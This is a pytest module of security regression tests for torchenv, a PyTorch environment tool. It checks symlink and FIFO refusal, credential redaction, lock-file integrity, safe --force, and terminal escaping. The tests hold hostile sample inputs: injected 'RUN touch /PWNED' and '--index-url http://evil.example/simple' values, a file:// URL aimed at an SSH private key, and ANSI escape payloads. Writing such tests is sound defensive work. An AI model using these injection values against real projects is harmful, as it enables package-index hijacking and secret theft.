"""One named test for each way torchenv gave way when it was attacked (the ten groups of the
issue "Hostile input and secrets"). The generated corpus (test_corpus_*.py) covers the same
ground with many more inputs; these show each promise directly."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from builders import add_torch, conda_record, make_venv
from hostile import SECRET, sandbox, special_file
from ship_project import edit_lock, set_in_lock, ship_project
from torchenv.backends import staging
from torchenv.backends.credentials import build_netrc, installer_env, spec_entries
from torchenv.backends.installers import Sources, uv_compile, uv_sync
from torchenv.backends.lockfile import tomllib
from torchenv.backends.registry import register
from torchenv.errors import UsageError
from torchenv.models.spec import SpecIndex
from torchenv.untrusted.text import for_terminal, redact

FIXTURES = Path(__file__).parents[1] / "fixtures" / "machines"
CREDENTIALED = f"https://alice:{SECRET}@mirror.example/simple"


def test_group1_only_a_regular_file_is_ever_replaced() -> None:
    with sandbox() as box:
        null_link = box.project / "null.toml"
        null_link.symlink_to("/dev/null")
        done = box.run(
            "init", "--gpu", "H100", "--driver", "580.65.06", "--out", str(null_link), "--force"
        )
        assert done.code == 2 and "symbolic link" in done.err
        assert stat.S_ISCHR(os.stat("/dev/null").st_mode) and null_link.is_symlink()
        fifo = box.project / "fifo.toml"
        special_file(fifo, "fifo")
        done = box.run(
            "init", "--gpu", "H100", "--driver", "580.65.06", "--out", str(fifo), "--force"
        )
        assert done.code == 2 and "FIFO" in done.err and stat.S_ISFIFO(os.lstat(fifo).st_mode)
        dangling = box.project / "dangling.toml"
        special_file(dangling, "dangling")
        done = box.run("init", "--gpu", "H100", "--driver", "580.65.06", "--out", str(dangling))
        assert done.code == 2 and "already exists" in done.err and dangling.is_symlink()


def test_group2_credentials_reach_the_installer_only(tmp_path: Path) -> None:
    sources = Sources.for_variant(SpecIndex(pypi=CREDENTIALED), "cpu", macos=False)
    argv = uv_compile("uv", "req.in", "out.toml", "3.11", ["linux_x86_64"], sources)
    argv += uv_sync("uv", "pylock.toml", "python", sources)
    assert SECRET not in " ".join(argv) and "https://mirror.example/simple" in argv
    assert sources.without_credentials().pypi == "https://mirror.example/simple"
    home = tmp_path / "home"
    home.mkdir()
    (home / ".netrc").write_text(
        "machine mirror.example login alice password OLD\n"
        "machine github.com login bob password GH\ndefault login anon password x\n"
    )
    with installer_env(sources.urls, {"HOME": str(home)}) as env:
        netrc = Path(env["NETRC"])
        assert stat.S_IMODE(netrc.stat().st_mode) == 0o600
        text = netrc.read_text()
        # the spec's entry for its host, the user's for the others, "default" last
        assert f"machine mirror.example\nlogin alice\npassword {SECRET}\n" in text
        assert "OLD" not in text and "machine github.com" in text
        assert text.rstrip().splitlines()[-3] == "default"
    assert not netrc.exists() and not netrc.parent.exists()
    assert spec_entries(["https://mirror.example/simple"]) == {}
    # the build gets the index hosts' credentials only, from the user's netrc when the spec has
    # none: never the user's other credentials
    build = build_netrc(["https://mirror.example/simple"], {"HOME": str(home)})
    assert build == "machine mirror.example\nlogin alice\npassword OLD\n"
    # what is printed: uv's messages, progress lines, errors
    line = f"error: Failed to fetch {CREDENTIALED}/torch/ and https://{SECRET}@host/x"
    assert SECRET not in redact(line) and "alice:****@mirror.example" in redact(line)


def test_group3_a_lock_value_that_would_become_an_instruction_is_refused() -> None:
    for field, value in [
        ('python = "3.11"', 'python = "3.11\\nRUN touch /PWNED"'),
        ('variant = "cpu"', 'variant = "cpu\\" LABEL x=1"'),
        ('name = "triton"', 'name = "triton\\n--index-url http://evil.example/simple"'),
        ('version = "3.6.0"', 'version = "3.6.0 --index-url http://evil.example/simple"'),
        # pip splits a requirements file with str.splitlines: U+2028 ends a line there
        (
            "marker = \"platform_machine == 'x86_64'\"",
            "marker = \"os_name == 'x\\u2028--index-url http://evil.example/simple #'\"",
        ),
    ]:
        with sandbox() as box:
            ship_project(box.project)
            edit_lock(box.project / "pylock.toml", field, value)
            key = field.split(" = ")[0]
            for command in (("image",), ("deploy", "--to", "k8s"), ("create",)):
                done = box.run(*command)
                assert done.code == 2 and f"{key} = " in done.err and "is not valid" in done.err
                assert "PWNED" not in done.out
    with sandbox() as box:  # edited by hand and not sealed again: found
        ship_project(box.project)
        edit_lock(box.project / "pylock.toml", 'version = "3.6.0"', 'version = "3.5.0"', seal=False)
        done = box.run("image")
        assert done.code == 2 and "changed after `torchenv lock`" in done.err


def test_group4_the_image_carries_only_wheels_with_the_lock_hash() -> None:
    """A lock naming a private key (or any file) by file:// URL, a wheel that is not there, or
    one whose content is not the locked one: refused, nothing copied."""
    with sandbox() as box:
        ship_project(box.project)
        secret = box.root / "home" / ".ssh" / "id_ed25519"
        secret.parent.mkdir(parents=True)
        secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
        lock = box.project / "pylock.toml"
        doc = tomllib.loads(lock.read_text())
        wheel = doc["packages"][0]["wheels"][0]
        for url, sha, expected in [
            (f"file://{secret}", "ab" * 32, "the location of a wheel"),
            (f"file://{secret.parent}/x-1.0-py3-none-any.whl", "ab" * 32, "not on this"),
            (wheel["url"], "cd" * 32, "does not have the sha256"),
        ]:
            if "x-1.0" in url:
                (secret.parent / "x-1.0-py3-none-any.whl").symlink_to(secret.parent / "gone")
            set_in_lock(lock, ("packages", 0, "wheels", 0), {"url": url, "hashes": {"sha256": sha}})
            done = box.run("image", allowed=[box.project / "image"])
            assert done.code == 2 and expected in done.err, done.err
            assert not (box.project / "image").exists()


def test_group5_force_never_deletes_what_is_not_the_environment(tmp_path: Path) -> None:
    loose = tmp_path / "loose"
    loose.mkdir()
    (loose / "pyvenv.cfg").write_text("")
    (loose / "thesis.tex").write_text("years of work")
    with pytest.raises(UsageError) as caught:
        staging.check_target(loose, replace=True)
    assert "thesis.tex" in caught.value.message
    venv = make_venv(tmp_path, "venv").prefix
    (venv / "notebook.ipynb").write_text("{}")
    with pytest.raises(UsageError) as caught:
        staging.check_target(venv, replace=True)
    assert caught.value.reference == "prefix-holds-other-files"
    assert "notebook.ipynb" in caught.value.message
    (venv / "notebook.ipynb").unlink()
    assert staging.check_target(venv, replace=True) is True  # a complete venv, nothing more
    conda = tmp_path / "conda"
    conda_record(conda, "python", "3.11.7", "h0", "conda-forge")
    (conda / "lib").mkdir()
    (conda / "results.csv").write_text("1,2\n")
    with pytest.raises(UsageError, match=r"results\.csv"):
        staging.check_target(conda, replace=True)
    assert (loose / "thesis.tex").exists() and (conda / "results.csv").exists()


def test_group7_a_machine_file_that_never_ends_is_refused() -> None:
    with sandbox() as box:
        for kind in ("dev-zero", "fifo", "huge"):
            machine = box.project / f"{kind}.json"
            special_file(machine, kind)
            done = box.run("plan", "--for", str(machine))
            assert done.code == 2 and str(machine) in done.err


def test_group8_what_once_was_an_internal_error_is_a_sentence() -> None:
    with sandbox() as box:
        deep = box.project / "deep.json"
        deep.write_text("[" * 100_000 + "]" * 100_000)
        done = box.run("plan", "--for", str(deep))
        assert done.code == 2 and "nested too deeply" in done.err
        for args in (("verify", "--timeout", "nan"), ("doctor", "--deep-timeout", "nan")):
            assert box.run(*args).code == 2
        ship_project(box.project)
        edit_lock(box.project / "pylock.toml", 'python = "3.11"', "python = 311")
        done = box.run("image")
        assert done.code == 2 and "python = 311" in done.err
        data_file = box.root / "data-file"
        data_file.write_text("not a directory")
        box.env["TORCHENV_DATA_DIR"] = str(data_file)
        ship_project(box.project)
        done = box.run("create", "--prefix", str(box.root / "env"))
        assert done.code == 2 and "not a directory" in done.err
        assert not (box.root / "env").exists()  # refused before anything was built


def test_group9_a_lock_directory_planted_by_another_user_is_refused(tmp_path: Path) -> None:
    shared = tmp_path / "tmp"
    shared.mkdir()
    planted = shared / f"torchenv-{os.getuid()}"
    planted.mkdir()
    planted.chmod(0o777)  # this user's own, under a umask of 002 as an older torchenv left it
    prefix = tmp_path / "env"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_RUNTIME_DIR", str(shared))
        with staging.exclusive(prefix):
            pass
        assert stat.S_IMODE(planted.stat().st_mode) == 0o700  # made private again
        link = shared / "elsewhere"
        planted.rename(link)
        planted.symlink_to(link)  # a link in its place is refused, not followed
        with pytest.raises(UsageError, match="symbolic link"), staging.exclusive(prefix):
            pass
        planted.unlink()
        link.rename(planted)
        if os.getuid() == 0:  # only root can give a directory away
            os.chown(planted, 12345, 12345)
            with pytest.raises(UsageError, match="belongs to uid 12345"), staging.exclusive(prefix):
                pass


def test_group10_names_from_files_reach_the_terminal_escaped(tmp_path: Path) -> None:
    assert for_terminal("H100\x1b]0;owned\x07\x1b[2J") == "H100\\x1b]0;owned\\x07\\x1b[2J"
    with sandbox() as box:
        machine = box.project / "node.json"
        doc = json.loads((FIXTURES / "h100-node.json").read_text())
        doc["machine"]["gpus"][0]["name"] = "H100\x1b[2J\x1b]0;x\x07"
        machine.write_text(json.dumps(doc))
        done = box.run("plan", "--for", str(machine), "-v")
        assert done.code == 0 and "\x1b" not in done.out


def test_group10_a_corrupt_registry_is_kept_aside_and_rebuilt(tmp_path: Path) -> None:
    env = make_venv(tmp_path, "kept").prefix
    add_torch(env.parent / "kept" / "lib" / "python3.11" / "site-packages")
    (env / "torchenv-env.json").write_text(
        json.dumps(
            {
                "schema": "torchenv.env/1",
                "backend": "uv",
                "spec": {"path": "/p/t.toml"},
                "lock": {"packages": {"torch": "2.13.0+cpu"}},
            }
        )
    )
    registry = tmp_path / "environments.json"
    registry.write_text('{"' + str(env) + '": {"backend": "uv"}, "/gone": {tru')
    notes = register(registry, "/new/env", {"backend": "pip"})
    entries = json.loads(registry.read_text())
    assert set(entries) == {str(env), "/new/env"} and entries[str(env)]["spec"] == "/p/t.toml"
    kept = list(tmp_path.glob("environments.json.corrupt-*"))
    assert len(kept) == 1 and "/gone" in kept[0].read_text()
    assert notes and kept[0].name in notes[0]
